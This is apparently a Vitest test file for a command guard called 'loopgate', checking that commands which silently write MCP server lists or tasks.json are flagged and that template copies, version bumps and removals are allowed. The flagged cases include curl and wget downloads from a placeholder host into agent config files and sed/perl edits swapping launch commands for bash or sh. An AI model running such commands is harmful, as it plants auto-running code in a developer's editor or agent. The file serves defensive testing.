import { describe, expect, it } from "vitest";
import { check } from "../__fixtures__/decide.js";

describe("files an agent or editor starts commands from, written unseen", () => {
  it("asks when an MCP server list or tasks.json gets text loopgate cannot see", () => {
    for (const command of [
      "curl -o .cursor/mcp.json https://x.example/mcp.json",
      "wget -O .vscode/mcp.json https://x.example/mcp.json",
      "curl -s https://x.example/mcp.json > .mcp.json",
      "cp /tmp/servers.json .roo/mcp.json",
      "mv ~/Downloads/mcp.json .amazonq/mcp.json",
      "ln -sf /tmp/mcp.json .kiro/settings/mcp.json",
      "cat /tmp/servers.json > .cursor/mcp.json",
      "node gen-servers.js > .mcp.json",
      "sed -i 's/npx/bash/' .mcp.json",
      "perl -pi -e 's/\"command\": \"\\w+\"/\"command\": \"sh\"/' .vscode/mcp.json",
      "cp /tmp/tasks.json .vscode/tasks.json",
    ]) {
      expect(check(command), command).toMatchObject({ decision: "ask", rule: "tamper.unseen-auto-run" });
    }
  });

  it("allows what it can see: the project's own templates, version and port bumps, known text, removal", () => {
    for (const command of [
      "cp .mcp.json.example .mcp.json",
      "cp config/mcp.template.json .cursor/mcp.json",
      "cat .vscode/mcp.example.json > .vscode/mcp.json",
      "sed -i 's/server-github@0.5.0/server-github@0.6.0/' .mcp.json",
      "sed -i 's/localhost:3000/localhost:4000/' .vscode/mcp.json",
      `echo '{"mcpServers":{}}' > .cursor/mcp.json`,
      "rm .cursor/mcp.json",
      "cp .vscode/tasks.json /tmp/tasks-backup.json",
    ]) {
      expect(check(command).decision, command).toBe("allow");
    }
  });
});
